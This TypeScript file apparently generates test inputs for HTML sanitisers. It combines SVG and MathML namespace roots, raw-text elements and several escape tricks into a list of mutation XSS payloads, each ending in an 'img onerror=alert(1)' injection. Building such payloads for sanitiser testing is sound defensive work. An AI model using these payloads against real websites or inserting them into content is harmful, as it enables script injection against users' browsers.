/**
 * Mutation XSS: markup that changes its meaning when a browser parses its own serialisation. Combines all known
 * techniques of sanitisers' test suites: a foreign namespace, a way back into HTML, a raw-text element and a way
 * out of it.
 */
const img = "<img src=x onerror=alert(1)>";
const escaped = "&lt;img src=x onerror=alert(1)&gt;";

const roots = [
  "<svg>",
  "<math>",
  "<math><mtext>",
  "<math><mi>",
  "<math><mtext><table><mglyph>",
  "<math><mtext><malignmark>",
  '<math><annotation-xml encoding="text/html">',
  "<svg><foreignObject>",
  "<svg><desc>",
  "<svg></p>",
  "<form><math><mtext></form><form>",
  "<table><caption><svg>",
  "<select><svg>",
  "<template><svg>",
  "<b><p><svg>",
  "",
];
const rawElements = "style title textarea noscript xmp iframe noembed noframes script template option".split(" ");
const waysOut: ((raw: string) => string)[] = [
  (raw) => `</${raw}>${img}`,
  (raw) => `<!--</${raw}>${img}-->`,
  (raw) => `<a title="</${raw}>${img}">x</a>`,
  (raw) => `<a id="--&gt;</${raw}>${escaped}">`,
  (raw) => `<![CDATA[</${raw}>${img}]]>`,
  (raw) => `<p x="</${raw}><!--">${img}--></p>`,
];

/** All distinct combinations. */
export const mutationPayloads: readonly string[] = roots.flatMap((root) =>
  rawElements.flatMap((raw) => waysOut.map((wayOut) => `${root}<${raw}>${wayOut(raw)}`)),
);
